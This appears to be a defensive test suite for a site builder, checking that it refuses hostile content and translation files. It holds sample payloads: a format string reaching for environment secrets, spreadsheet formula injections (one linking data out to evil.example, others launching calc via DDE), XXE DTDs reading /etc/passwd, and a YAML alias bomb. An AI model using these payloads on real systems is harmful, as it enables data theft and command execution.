"""Hostile input (issue 16): nothing leaks, nothing is hijacked, nothing crashes.

Content and translations come from many hands. Each test here is one way a hostile (or
careless) file could have published what it should not, or stopped a build with a traceback.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import html
import io
import os
import re
import urllib.error
import urllib.request
from pathlib import Path

import pytest
from babel.messages.pofile import read_po, write_po
from click.testing import CliRunner

from haven.build import build
from haven.cli import main
from haven.content.load import load
from haven.content.validate import validate
from haven.errors import ContentError, HavenError
from haven.i18n.catalog import read_catalog
from haven.i18n.exchange import import_file
from haven.opendata.export import export_hsds
from haven.opendata.importer import import_hsds
from haven.placeholders import fill, problem, segment_problem
from haven.privacy.headers import PAGE_POLICY
from haven.render.assets import asset_path
from tests.conftest import MakeHub, chromium, local_server, starter_text
from tests.test_translate_workflow import content_of, hub_with, update
from tests.test_translate_workflow import fill as fill_catalog

LEAK = ("{filter}: {value} {filter.__class__.__new__.__globals__[Path].cwd.__func__"
        ".__globals__[os].environ[HAVEN_TEST_SECRET]}")
SECRET = "s3cr3t-value-from-the-build-machine"


# -- placeholders ---------------------------------------------------------------------------


def test_only_plain_names_from_the_list_are_accepted() -> None:
    assert problem("{filter}: {value}", {"filter", "value"}) is None
    assert problem("no braces at all", {"date"}) is None
    for bad, why in [
        ("{filter.__class__}", "not a plain placeholder"),
        ("{date[x]} {{", "not a plain placeholder"),
        ("{count:>10}", "not a plain placeholder"),
        ("{phone!r}", "not a plain placeholder"),
        ("{0}", "not a plain placeholder"),
        ("{secret}", "{secret} is not a placeholder of this text"),
        ("{{date}}", "lone '{'"),
        ("Last checked {date", "lone '{'"),
        ("date}", "lone '}'"),
    ]:
        found = problem(bad, {"date", "filter", "phone", "count"})
        assert found is not None and why in found, (bad, found)
        assert "the placeholders of this text are" in found
    assert segment_problem("ui:facet_title", LEAK) is not None
    assert segment_problem("ui:last_checked", "{date[x]} {{") is not None
    assert segment_problem("hub:outreach.sms", "Call {phone}: {link}") is None
    assert segment_problem("hub:outreach.sms", "{phone.real}") is not None
    assert segment_problem("organization:x:description", "{any} braces") is None  # not filled


def test_fill_replaces_names_and_never_interprets_anything_else() -> None:
    values = {"filter": "Town", "value": "Hartford"}
    assert fill("{filter}: {value}", values) == "Town: Hartford"
    assert fill(LEAK, values).startswith("Town: Hartford {filter.__class__")
    assert fill("{date[x]} {{ {missing}", {"date": "x"}) == "{date[x]} {{ {missing}"


def test_translate_import_refuses_a_translation_that_reaches_for_secrets(
        make_hub: MakeHub, cli: CliRunner, tmp_path: Path) -> None:
    root = hub_with(make_hub)
    update(cli, root)
    work = tmp_path / "cy-work.po"
    result = cli.invoke(main, ["translate", "export", "cy", str(root), "--format", "po",
                               "--output", str(work)])
    assert result.exit_code == 0, result.output
    catalog = read_po(work.open("rb"))
    bad = {"ui:facet_title": LEAK, "ui:last_checked": "{date[x]} {{",
           "ui:call": "Call\x00" + "0\x01"}
    for message in catalog:
        if message.context in bad:
            message.string = bad[message.context]
        elif message.context == "ui:found":
            message.string = "Trouvées : {count}"
        message.flags.discard("fuzzy")
    with work.open("wb") as handle:
        write_po(handle, catalog, width=100)
    report = import_file(content_of(root), work)
    refused = dict(report.refused)
    assert set(bad) <= set(refused), report.refused
    assert "not a plain placeholder" in refused["ui:facet_title"]
    assert refused["ui:facet_title"].startswith("line ")
    assert "not a plain placeholder" in refused["ui:last_checked"]
    assert "control character" in refused["ui:call"]
    entries = read_catalog(root / "translations" / "cy.po")
    assert entries["ui:found"].text == "Trouvées : {count}"
    assert all(entries[ident].text == "" for ident in bad)
    result = cli.invoke(main, ["translate", "import", str(work), str(root)])
    assert "ui:facet_title" in result.output and "not a plain placeholder" in result.output


def test_a_build_refuses_a_catalog_edited_by_hand_and_leaks_nothing(
        make_hub: MakeHub, cli: CliRunner, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HAVEN_TEST_SECRET", SECRET)
    root = hub_with(make_hub)
    update(cli, root)
    po = root / "translations" / "cy.po"
    fill_catalog(po, {"ui:facet_title": (LEAK, "reviewed")})
    line = next(n for n, text in enumerate(po.read_text().splitlines(), 1)
                if text == 'msgctxt "ui:facet_title"')
    out = tmp_path / "site"
    with pytest.raises(HavenError) as caught:
        build(root, out)
    message = caught.value.format_message()
    assert "translations/cy.po:" in message and "ui:facet_title" in message
    assert f"cy.po:{line}" in message or f"cy.po:{line + 1}" in message \
        or f"cy.po:{line + 2}" in message, message
    assert "not a plain placeholder" in message and SECRET not in message
    assert not out.exists()
    result = cli.invoke(main, ["outreach", str(root), "--output", str(tmp_path / "msgs")])
    assert SECRET not in result.output
    for sheet in (tmp_path / "msgs").glob("*.csv"):
        assert SECRET not in sheet.read_text()
    assert os.environ["HAVEN_TEST_SECRET"] == SECRET


# -- control characters, aliases, huge numbers in content ---------------------------------

ORG = """id: example-legal-aid
name: Example Legal Aid
alternate_name: {alternate}
description: Legal advice for families.
phones:
  - number: 860-555-0199
    extension: {extension}
locations:
  - id: main
    name: {location}
    address:
      address_1: {address}
      city: {city}
      state_province: CT
      postal_code: "06103"
services:
  - id: example-legal-advice
    name: Legal advice
    topics: [legal-help]
    audiences: [families]
    languages: [en, es]
    cost_options:
      - amount: {amount}
verification:
  status: unverified
"""
PLAIN = {"alternate": "ELA", "extension": "12", "location": "Main office",
         "address": "1 Main St", "city": "Hartford", "amount": "0"}
FORGED = '"Hart\\x000\\x01ford"'  # a YAML escape: the file itself holds no control character


def org(**values: str) -> str:
    return ORG.format(**{**PLAIN, **values})


def problems(root: Path) -> list[str]:
    with pytest.raises(ContentError) as caught:
        validate(load(root))
    return [str(p) for p in caught.value.problems]


def test_the_organization_template_is_valid(make_hub: MakeHub) -> None:
    validate(load(make_hub({"directory/example-legal-aid.yaml": org()})))


@pytest.mark.parametrize("field", ["alternate", "extension", "location", "address", "city"])
def test_a_control_character_in_a_plain_field_is_refused_with_its_line(
        make_hub: MakeHub, field: str) -> None:
    root = make_hub({"directory/example-legal-aid.yaml": org(**{field: FORGED})})
    line = next(n for n, text in enumerate(org(**{field: FORGED}).splitlines(), 1)
                if FORGED in text)
    found = problems(root)
    assert len(found) == 1, found
    assert found[0].startswith(f"directory/example-legal-aid.yaml:{line}: ")
    assert "control character" in found[0] and "U+0000" in found[0]


@pytest.mark.parametrize(("relative", "old", "new"), [
    ("hub.yaml", "district: Our District Public Schools", 'district: "Our\\x01District"'),
    ("resources.yaml", "publisher: ACLU", 'publisher: "AC\\x02title\\x03LU"'),
    ("documents/welcome.md", "title: A message to our families",
     'title: "A message\\u0000key"'),
    ("topics.yaml", "\n", '\n# a comment\n'),
])
def test_every_text_field_refuses_control_characters(make_hub: MakeHub, relative: str,
                                                     old: str, new: str) -> None:
    text = starter_text(relative)
    assert old in text
    root = make_hub({relative: text.replace(old, new, 1)})
    if "\\" not in new:  # the control case: nothing to refuse
        validate(load(root))
        return
    found = problems(root)
    assert len(found) == 1 and found[0].startswith(f"{relative}:"), found
    assert "control character" in found[0]


def test_the_forged_text_never_reaches_a_page(make_hub: MakeHub, tmp_path: Path) -> None:
    root = make_hub({"directory/example-legal-aid.yaml": org(city=FORGED)})
    with pytest.raises(ContentError):
        build(root, tmp_path / "site")
    assert not (tmp_path / "site").exists()


def test_anchors_and_aliases_are_refused_at_once(make_hub: MakeHub) -> None:
    bomb = ["topics:", "  - &a0 [x, x, x, x, x, x, x, x, x]"]
    for n in range(1, 30):
        bomb.append(f"  - &a{n} [*a{n - 1}, *a{n - 1}, *a{n - 1}, *a{n - 1}, *a{n - 1}, "
                    f"*a{n - 1}, *a{n - 1}, *a{n - 1}, *a{n - 1}]")
    root = make_hub({"topics.yaml": "\n".join(bomb) + "\n"})
    found = problems(root)  # 9**30 strings if expanded: this returns only if it is refused
    assert len(found) == 1, found
    assert found[0].startswith("topics.yaml:2: ")  # where &a0 marks the value
    assert "alias" in found[0]
    merge = starter_text("hub.yaml") + "x: &base {a: 1}\ny:\n  <<: *base\n"
    found = problems(make_hub({"hub.yaml": merge}))
    assert any("alias" in p and p.startswith("hub.yaml:") for p in found), found


@pytest.mark.parametrize("amount", ["1e400", "-1e400", ".inf", ".nan", "-.inf"])
def test_a_number_that_is_not_finite_is_refused(make_hub: MakeHub, amount: str) -> None:
    root = make_hub({"directory/example-legal-aid.yaml": org(amount=amount)})
    line = next(n for n, text in enumerate(org(amount=amount).splitlines(), 1)
                if "amount:" in text)
    found = problems(root)
    assert len(found) == 1, found
    assert found[0].startswith(f"directory/example-legal-aid.yaml:{line}: ")
    assert "not a finite number" in found[0]


def test_a_raw_control_character_in_a_msgstr_is_refused_at_build(
        make_hub: MakeHub, cli: CliRunner, tmp_path: Path) -> None:
    root = hub_with(make_hub)
    update(cli, root)
    po = root / "translations" / "cy.po"
    fill_catalog(po, {"hub:home.intro": ("Croeso\x000\x01 i bawb", "reviewed")})
    assert "\x00" in po.read_text()
    with pytest.raises(HavenError) as caught:
        build(root, tmp_path / "site")
    message = caught.value.format_message()
    assert "translations/cy.po:" in message and "hub:home.intro" in message
    assert "control character (U+0000)" in message
    assert not (tmp_path / "site").exists()


# -- CSV formula injection ------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def spreadsheet_sees_text(cell: str) -> bool:
    """What a spreadsheet does with a cell: a formula unless it starts with a quote, or is
    only a number or a phone number (no function can be written without letters)."""
    if not cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        return True
    return all(c in "0123456789 +-().\t\r" for c in cell)


def test_hsds_csv_cells_are_text_to_a_spreadsheet(make_hub: MakeHub, tmp_path: Path) -> None:
    hostile = org(alternate=f"'{FORMULAS[0]}'", location=f'"{FORMULAS[1]}"',
                  address=f'"{FORMULAS[2]}"', city=f'"{FORMULAS[3]}"')
    hostile = hostile.replace("description: Legal advice for families.",
                              "description: \"=1+1\"")
    root = make_hub({"directory/example-legal-aid.yaml": hostile})
    files, _ = export_hsds(validate(load(root)))
    cells = [cell for name, data in files.items() if name.endswith(".csv")
             for row in csv.reader(io.StringIO(data.decode())) for cell in row]
    assert all(spreadsheet_sees_text(cell) for cell in cells), \
        [c for c in cells if not spreadsheet_sees_text(c)]
    for formula in [*FORMULAS, "=1+1"]:
        assert "'" + formula in cells
    assert "+1 860-555-0199" in cells  # phone numbers stay numbers
    # Haven's own import reads the value back as it was.
    folder = tmp_path / "csv"
    folder.mkdir()
    for name, data in files.items():
        if name.startswith("csv/"):
            (folder / name[4:]).write_bytes(data)
    hub = make_hub({"directory/example-legal-aid.yaml": None})
    import_hsds(folder, hub)
    back = validate(load(hub)).organizations[0]
    assert back.description == "=1+1" and back.locations[0].name == FORMULAS[1]
    assert back.locations[0].address is not None
    assert back.locations[0].address.city == FORMULAS[3]


def test_outreach_csv_cells_are_text_to_a_spreadsheet(make_hub: MakeHub, cli: CliRunner,
                                                      tmp_path: Path) -> None:
    hub = starter_text("hub.yaml") + f"outreach:\n  sms: '{FORMULAS[0]} {{phone}}'\n" \
        f"  voice: \"{FORMULAS[1]}\"\n  email_subject: \"{FORMULAS[3]}\"\n"
    root = make_hub({"hub.yaml": hub})
    out = tmp_path / "messages"
    result = cli.invoke(main, ["outreach", str(root), "--output", str(out)])
    assert result.exit_code == 0, result.output
    cells = [cell for name in ("sms.csv", "email.csv", "voice.csv")
             for row in csv.reader(io.StringIO((out / name).read_text(encoding="utf-8")))
             for cell in row]
    assert all(spreadsheet_sees_text(cell) for cell in cells), \
        [c for c in cells if not spreadsheet_sees_text(c)]
    assert any(cell.startswith("'" + FORMULAS[0]) for cell in cells)
    assert any(cell.startswith("'" + FORMULAS[3]) for cell in cells)


# -- XLIFF: no DTD, no entity, anywhere in the file ----------------------------------------


@pytest.mark.parametrize("dtd", [
    '<!DOCTYPE xliff [<!ENTITY e "INJECTED">]>',
    '<!DOCTYPE xliff SYSTEM "file:///etc/passwd">',
    '<!DOCTYPE xliff [<!ENTITY e SYSTEM "file:///etc/hostname">]>',
])
def test_xliff_with_a_dtd_after_4_kb_is_refused(make_hub: MakeHub, cli: CliRunner,
                                                tmp_path: Path, dtd: str) -> None:
    from tests.test_xliff import export_xliff, translate_xliff

    root = hub_with(make_hub)
    update(cli, root)
    work = tmp_path / "cy.xlf"
    export_xliff(cli, root, work)
    translate_xliff(work)
    text = work.read_text(encoding="utf-8")
    declaration, _, rest = text.partition("?>")
    padding = "<!--" + "x" * 5000 + "-->"
    rest = rest.replace("CY Every child", "&e; CY Every child", 1) if "ENTITY" in dtd else rest
    work.write_text(f"{declaration}?>\n{padding}\n{dtd}{rest}", encoding="utf-8")
    result = cli.invoke(main, ["translate", "import", str(work), str(root)])
    assert result.exit_code == 1, result.output
    assert "DTD" in result.output or "DOCTYPE" in result.output
    assert "Traceback" not in result.output
    catalog = root / "translations" / "cy.po"
    assert "INJECTED" not in catalog.read_text(encoding="utf-8")
    assert all(not entry.text for entry in read_catalog(catalog).values())


# -- staff pages, the nginx snippet, the preview server -------------------------------------


@pytest.fixture
def built_site(make_hub: MakeHub, tmp_path: Path) -> Path:
    site = tmp_path / "site"
    build(make_hub(), site, pdf=False)
    return site


def page_policy(page: str) -> str:
    found = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', page)
    assert found is not None, page[:600]
    return html.unescape(found.group(1))


def test_staff_pages_carry_the_policy_and_referrer_of_public_pages(
        built_site: Path, make_hub: MakeHub, cli: CliRunner, tmp_path: Path) -> None:
    public = (built_site / "es" / "index.html").read_text(encoding="utf-8")
    staff = sorted((built_site / "_staff").glob("*.html"))
    assert [p.name for p in staff] == ["outreach.html", "translations.html"]
    standalone = tmp_path / "status.html"  # `translate status --html`: its styles inline
    result = cli.invoke(main, ["translate", "status", str(make_hub()), "--html",
                               str(standalone)])
    assert result.exit_code == 0, result.output
    for path in staff:
        page = path.read_text(encoding="utf-8")
        assert page_policy(page) == page_policy(public) == PAGE_POLICY, path
        assert '<meta name="referrer" content="no-referrer">' in page
    inline = standalone.read_text(encoding="utf-8")
    style = re.search(r"<style>(.*?)</style>", inline, re.DOTALL)
    assert style is not None
    digest = base64.b64encode(hashlib.sha256(style.group(1).encode()).digest()).decode()
    assert page_policy(inline) == f"{PAGE_POLICY}; style-src 'self' 'sha256-{digest}'"


@pytest.mark.skipif(not Path("/usr/bin/chromium").exists(), reason="needs Debian's chromium")
def test_chromium_runs_no_inline_script_on_a_staff_page_and_applies_its_styles(
        built_site: Path, make_hub: MakeHub, cli: CliRunner, tmp_path: Path) -> None:
    standalone = tmp_path / "status.html"
    cli.invoke(main, ["translate", "status", str(make_hub()), "--html", str(standalone)])
    for path in [*sorted((built_site / "_staff").glob("*.html")), standalone]:
        text = path.read_text(encoding="utf-8")
        path.write_text(text.replace("</body>", "<script>document.title = 'INJECTED';</script>"
                                     "</body>"), encoding="utf-8")
    with chromium() as browser:
        for path in [*sorted((built_site / "_staff").glob("*.html")), standalone]:
            page = browser.new_page()
            messages: list[str] = []
            page.on("console", lambda m, seen=messages: seen.append(m.text))
            page.goto(path.as_uri())
            assert page.title() != "INJECTED", path
            assert any("Content Security Policy" in m and "script" in m
                       for m in messages), (path, messages)
            assert not [m for m in messages if "style" in m.lower()], (path, messages)
            body = page.evaluate("getComputedStyle(document.body).fontFamily")
            assert body and body != "\"Times New Roman\"", (path, body)
            page.close()


def test_the_nginx_snippet_denies_staff_pages_and_dot_files(built_site: Path) -> None:
    nginx = (built_site / "_hosting" / "nginx.conf").read_text(encoding="utf-8")
    rules = re.findall(r'^    location ~ "([^"]+)" \{ return 404; \}$', nginx, re.MULTILINE)
    assert len(rules) == 2
    patterns = [re.compile(rule) for rule in rules]
    for denied in ["/.haven-build", "/es/.hidden", "/.git/config", "/_staff/", "/_staff/x.html",
                   "/_hosting/nginx.conf", "/_headers", "/_redirects"]:
        assert any(p.search(denied) for p in patterns), denied
    for served in ["/es/", "/es/help/index.html", f"/{asset_path('haven.css')}", "/sw.js",
                   "/.well-known/acme-challenge/token", "/es/_staff/"]:
        assert not any(p.search(served) for p in patterns), served
    assert nginx.count("{") == nginx.count("}")


def test_the_preview_server_lists_no_folder_and_serves_no_dot_file(built_site: Path) -> None:
    (built_site / ".secret").write_text("build state", encoding="utf-8")
    (built_site / "es" / ".hidden").write_text("x", encoding="utf-8")
    with local_server(built_site) as origin:
        def status(path: str) -> int:
            try:
                with urllib.request.urlopen(origin + path) as response:
                    return int(response.status)
            except urllib.error.HTTPError as exc:
                return exc.code
        assert status("/es/") == 200
        assert status(f"/{asset_path('haven.css')}") == 200
        assert status("/assets/") == 404  # a folder without index.html
        assert status("/_staff/") == 404
        assert status("/_staff/translations.html") == 200  # the preview is for staff
        for path in ["/.secret", "/%2Esecret", "/es/.hidden", "/es/%2ehidden", "/./.secret"]:
            assert status(path) == 404, path
        assert status("/es/%00") == 400


# -- robustness: a clear message, never a traceback ----------------------------------------


def build_output(cli: CliRunner, root: Path, out: Path) -> str:
    result = cli.invoke(main, ["build", str(root), "--output", str(out), "--no-pdf"])
    assert result.exit_code == 1, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), \
        repr(result.exception)
    assert "Traceback" not in result.output
    assert "nothing was published" in result.output
    assert not out.exists()
    return result.output


@pytest.mark.parametrize("relative", ["topics.yaml", "documents/welcome.md"])
def test_a_thousand_nested_brackets_are_a_message(make_hub: MakeHub, cli: CliRunner,
                                                  tmp_path: Path, relative: str) -> None:
    deep = "[" * 1000 + "]" * 1000
    text = starter_text(relative)
    if relative.endswith(".md"):
        text = text.replace("---\n", f"---\ndeep: {deep}\n", 1)
        line = 2
    else:
        line = text.count("\n") + 1
        text += f"deep: {deep}\n"
    root = make_hub({relative: text})
    output = build_output(cli, root, tmp_path / "site")
    assert f"{relative}:{line}: " in output and "nested" in output, output


def test_an_id_too_long_for_a_file_name_is_a_message(make_hub: MakeHub, cli: CliRunner,
                                                     tmp_path: Path) -> None:
    long_id = "a" * 300
    root = make_hub({"directory/example-legal-aid.yaml": org().replace(
        "id: example-legal-aid", f"id: {long_id}")})
    output = build_output(cli, root, tmp_path / "site")
    assert "directory/example-legal-aid.yaml:1: " in output and "too long" in output, output
    long_town = "Hart" + "x" * 300  # a town's page: its folder name is shortened
    root = make_hub({"directory/example-legal-aid.yaml": org(city=long_town)})
    result = cli.invoke(main, ["build", str(root), "--output", str(tmp_path / "site"),
                               "--no-pdf"])
    assert result.exit_code == 0, result.output
    towns = [p.name for p in (tmp_path / "site" / "en" / "help" / "town").iterdir()]
    assert len(towns) == 1 and towns[0].startswith("hartxxx") and len(towns[0]) <= 70


def test_a_folder_a_loop_or_a_fifo_in_place_of_a_file_is_a_message(
        make_hub: MakeHub, cli: CliRunner, tmp_path: Path) -> None:
    folder = make_hub({"hub.yaml": None})
    (folder / "hub.yaml").mkdir()
    assert "hub.yaml: " in build_output(cli, folder, tmp_path / "a")
    assert "not a file" in build_output(cli, folder, tmp_path / "a")

    loop = make_hub({"topics.yaml": None})
    (loop / "topics.yaml").symlink_to("topics.yaml")
    (loop / "directory" / "a.yaml").symlink_to("b.yaml")
    (loop / "directory" / "b.yaml").symlink_to("a.yaml")
    (loop / "directory" / "sub").mkdir()
    (loop / "directory" / "sub" / "again").symlink_to("..", target_is_directory=True)
    output = build_output(cli, loop, tmp_path / "b")
    assert "topics.yaml: " in output and "link" in output, output
    assert "directory/a.yaml: " in output and "directory/b.yaml: " in output, output

    fifo = make_hub({"topics.yaml": None})
    os.mkfifo(fifo / "topics.yaml")
    os.mkfifo(fifo / "directory" / "pipe.yaml")
    output = build_output(cli, fifo, tmp_path / "c")  # returns: reading a FIFO would hang
    assert "topics.yaml: " in output and "not a file" in output, output
    assert "directory/pipe.yaml: " in output, output


# -- immigration status under other names ---------------------------------------------------

OTHER_LANGUAGES = ["estatus_migratorio", "situación_migratoria", "ciudadanía", "indocumentado",
                   "numero_de_extranjero", "statut_migratoire", "citoyenneté", "sans-papiers",
                   "cidadania", "situação_migratória", "estati_imigrasyon", "obywatelstwo",
                   "status_imigracyjny", "гражданство", "иммиграционный_статус", "الجنسية",
                   "حالة_الهجرة", "移民身份", "国籍", "公民身份", "국적", "이민_신분",
                   "quốc_tịch", "tình_trạng_di_trú", "تابعیت", "नागरिकता", "مهاجرت"]
LOOK_ALIKES = ["immіgration_status", "сitizenship", "ｃｉｔｉｚｅｎｓｈｉｐ", "citi\u200bzenship",
               "c1tizenship", "ímmigration_status", "ιmmigration_status", "CITIZENSHIP",
               "Ιmmigration-Ѕtatus", "undocumеnted", "vіsa_status", "a‐number"]


@pytest.mark.parametrize("key", OTHER_LANGUAGES + LOOK_ALIKES)
def test_a_status_field_in_another_language_or_letters_is_refused_as_such(
        make_hub: MakeHub, key: str) -> None:
    from haven.content.validate import is_status_field

    assert is_status_field(key), key
    text = starter_text("hub.yaml").replace("review_every_days: 90",
                                            f"review_every_days: 90\n{key}: yes")
    found = problems(make_hub({"hub.yaml": text}))
    assert len(found) == 1 and "would record immigration or citizenship status" in found[0], \
        found


def test_ordinary_field_names_are_not_status_fields() -> None:
    from haven.content.validate import is_status_field

    for key in ["name", "description", "legal_name", "alternate_name", "nation", "situation",
                "estado", "status", "type", "number", "languages", "editrules", "city",
                "postal_code", "state_province", "country", "accreditations", "citation",
                "documentation_url", "origin", "nombre", "descripción", "статус", "名称"]:
        assert not is_status_field(key), key
